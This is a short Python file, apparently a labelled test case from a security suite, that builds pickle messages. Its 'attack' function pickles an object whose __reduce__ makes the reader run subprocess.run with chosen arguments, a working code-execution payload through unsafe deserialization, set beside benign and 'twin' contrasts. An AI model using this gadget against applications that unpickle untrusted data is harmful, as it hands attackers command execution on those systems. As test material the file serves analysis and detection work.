# culprit: application caller: application right: @exec twin: own uses: unpickle
# SPDX-License-Identifier: Apache-2.0
"""A message that has the runtime start a program when the application reads it: no C function, but subprocess itself."""

import pickle
import subprocess


class Payload:
    """What it is made from is what it does."""

    def __init__(self, function, argument):
        self.made_from = (function, (argument,))

    def __reduce__(self):
        return self.made_from


def benign(stage):
    return pickle.dumps({"text": "hello"})


def attack(stage):
    return pickle.dumps(Payload(subprocess.run, stage.argv))


def run(argv):
    return subprocess.run(argv)


def twin(stage):
    return pickle.dumps(Payload(run, stage.argv))
